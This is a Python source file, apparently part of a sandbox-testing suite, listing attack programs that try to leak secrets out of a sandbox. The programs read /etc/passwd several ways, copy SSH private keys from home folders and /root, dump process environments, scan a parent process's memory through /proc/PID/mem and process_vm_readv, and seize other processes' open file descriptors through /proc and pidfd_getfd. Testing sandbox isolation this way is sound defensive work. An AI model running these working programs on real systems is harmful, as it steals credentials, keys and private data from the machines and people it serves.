"""Secrets: files, environments, other processes' memory, descriptors that were left open."""

from __future__ import annotations

from llmzoo.sandbox.attacks.attack import Harm

# writes down what stands around the word "secret" in the memory of process `pid`
SEARCH = r"""
import re
word = bytes(reversed(b"-terces"))
def maps(pid):
    try:
        return open(f"/proc/{pid}/maps").readlines()
    except OSError:  # its heap is where ours is, if it is the process that we were forked from
        here = id(object()) & ~0xFFFFFF
        return [f"{here:x}-{here + 2**24:x} rw"]
def search(pid, read):
    for line in maps(pid):
        span, rights = line.split()[:2]
        start, end = (int(part, 16) for part in span.split("-"))
        if rights.startswith("rw") and end - start < 2**28:
            for found in re.finditer(re.escape(word) + rb"[0-9a-f]{24}", read(start, end - start)):
                leak(found.group().decode())
"""

ATTACKS = (
    Harm(
        name="read-a-file",
        about="opens a file outside by its path",
        program="leak(open(CANARY).read())",
    ),
    Harm(
        name="read-the-users",
        about="reads the list of users, by five ways",
        program="""
import os
def by_open(): return open("/etc/passwd").read()
def by_folder(): return os.read(os.open("passwd", os.O_RDONLY, dir_fd=os.open("/etc", os.O_RDONLY)), 9999).decode()
def by_dots(): return open("../" * 30 + "etc/passwd").read()
def by_libc():
    import ctypes
    libc = ctypes.CDLL(None)
    space = ctypes.create_string_buffer(9999)
    libc.read(libc.syscall(2, b"/etc/passwd", 0), space, 9999)
    return space.value.decode()
def by_map():
    import mmap
    return mmap.mmap(os.open("/etc/passwd", os.O_RDONLY), 0, prot=mmap.PROT_READ)[:].decode()
for way in (by_open, by_folder, by_dots, by_libc, by_map):
    try:
        leak(way())
    except (OSError, ImportError) as error:
        print(error)
""",
    ),
    Harm(
        name="read-the-ssh-key",
        about="reads the private key in the home folder",
        program="""
import glob, os
for home in (HOME, os.path.expanduser("~"), *glob.glob("/home/*"), "/root"):
    for path in glob.glob(home + "/.ssh/*"):
        leak(open(path).read())
""",
    ),
    Harm(
        name="read-own-environment",
        about="looks for keys in its environment, also in what exec left in memory",
        program="""
import os
leak(dict(os.environ))
leak(open("/proc/self/environ").read())
""",
    ),
    Harm(
        name="read-others-environments",
        about="reads the environment of every process in /proc",
        program="""
import os
for pid in {"self", PARENT, os.getppid(), *range(64)}:
    try:
        leak(open(f"/proc/{pid}/environ").read())
    except OSError:
        pass
""",
    ),
    Harm(
        name="read-the-callers-memory",
        about="searches the caller's memory through /proc/PID/mem",
        program=SEARCH
        + r"""
import os
for pid in (PARENT, os.getppid()):
    try:
        memory = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        continue
    def read(start, size):
        try:
            memory.seek(start)
            return memory.read(size)
        except OSError:
            return b""
    search(pid, read)
""",
    ),
    Harm(
        name="process-vm-readv",
        about="searches the caller's memory by the system call for it",
        program=SEARCH
        + r"""
import ctypes, os
libc = ctypes.CDLL(None)
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
for pid in (PARENT, os.getppid()):
    def read(start, size):
        space = ctypes.create_string_buffer(size)
        here, there = Piece(ctypes.addressof(space), size), Piece(start, size)
        got = libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        return space.raw[:max(got, 0)]
    search(pid, read)
""",
    ),
    Harm(
        name="read-inherited-memory",
        about="searches its own memory for what a fork of the caller would have copied",
        program=r"""
import gc, re, sys
word = "-terces"[::-1]
for module in list(sys.modules.values()):
    for value in list(vars(module).values()):
        if isinstance(value, str) and value.startswith(word):
            leak(value)
memory = open("/proc/self/mem", "rb", 0)
for line in open("/proc/self/maps"):
    span, rights = line.split()[:2]
    start, end = (int(part, 16) for part in span.split("-"))
    if rights.startswith("rw") and end - start < 2**28:
        try:
            memory.seek(start)
            for found in re.findall(word.encode() + rb"[0-9a-f]{24}", memory.read(end - start)):
                leak(found.decode())
        except OSError:
            pass
""",
    ),
    Harm(
        name="through-another-root",
        about="goes to the file through the root and working folders of other processes",
        program="""
import os
for pid in (1, PARENT, os.getppid(), "self"):
    for way in ("root", "cwd" + "/.." * 20):
        try:
            leak(open(f"/proc/{pid}/{way}{CANARY}").read())
        except OSError:
            pass
""",
    ),
    Harm(
        name="inherited-descriptors",
        about="reads every descriptor that it was born with",
        program="""
import os
for descriptor in range(3, 256):
    try:
        leak(os.pread(descriptor, 4096, 0).decode(errors="replace"))
    except OSError:
        pass
""",
    ),
    Harm(
        name="duplicated-descriptors",
        about="the same by fcntl, with the position set back",
        program="""
import fcntl, os
for descriptor in range(3, 256):
    try:
        copy = fcntl.fcntl(descriptor, fcntl.F_DUPFD, 100)
        os.lseek(copy, 0, os.SEEK_SET)
        leak(os.read(copy, 4096).decode(errors="replace"))
    except OSError:
        pass
""",
    ),
    Harm(
        name="others-descriptors",
        about="reads what the caller has open, through /proc/PID/fd",
        program="""
import os
for pid in (PARENT, os.getppid()):
    for name in range(3, 64):
        try:
            target = os.readlink(f"/proc/{pid}/fd/{name}")
            if "pipe" not in target and "socket" not in target and "/dev" not in target:
                leak(open(f"/proc/{pid}/fd/{name}").read(4096))
        except OSError:
            pass
""",
    ),
    Harm(
        name="pidfd-getfd",
        about="takes the caller's descriptors by the system call for it",
        program="""
import ctypes, os
libc = ctypes.CDLL(None)
for pid in (PARENT, os.getppid()):
    process = libc.syscall(434, pid, 0)
    for number in range(3, 100):
        taken = libc.syscall(438, process, number, 0)
        if taken >= 0:
            try:
                leak(os.pread(taken, 4096, 0).decode(errors="replace"))
            except OSError:
                pass
""",
    ),
    Harm(
        name="link-in-the-working-folder",
        about="reads through a symbolic and a hard link that it makes in its own folder",
        program="""
import os
for make in (os.symlink, os.link):
    try:
        make(CANARY, "innocent.txt")
        leak(open("innocent.txt").read())
        os.unlink("innocent.txt")
    except OSError as error:
        print(error)
""",
    ),
    Harm(
        name="import-the-file",
        about="has Python's own machinery read the file",
        program="""
import importlib.machinery, io, linecache, sys, tokenize, zipimport
leak(linecache.getlines(CANARY))
for read in (
    lambda: io.open_code(CANARY).read(),
    lambda: importlib.machinery.SourceFileLoader("x", CANARY).get_data(CANARY),
    lambda: tokenize.open(CANARY).read(),
):
    try:
        leak(read())
    except OSError as error:
        print(error)
sys.path.insert(0, OUTSIDE)
""",
    ),
    Harm(
        name="open-by-handle",
        about="asks for the file by its inode, and by the newest forms of open",
        program=r"""
import ctypes, os, struct
libc = ctypes.CDLL(None)
def tell(descriptor):
    if descriptor >= 0:
        leak(os.read(descriptor, 4096).decode())
tell(libc.syscall(437, -100, CANARY.encode(), struct.pack("QQQ", 0, 0, 0), 24))  # openat2
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
mount = ctypes.c_int()
if libc.syscall(303, -100, CANARY.encode(), handle, ctypes.byref(mount), 0) == 0:
    tell(libc.syscall(304, os.open("/tmp", os.O_RDONLY), handle, os.O_RDONLY))
tree = libc.syscall(428, -100, b"/", 1)  # open_tree, cloned
if tree >= 0:
    tell(os.open(CANARY[1:], os.O_RDONLY, dir_fd=tree))
""",
    ),
)
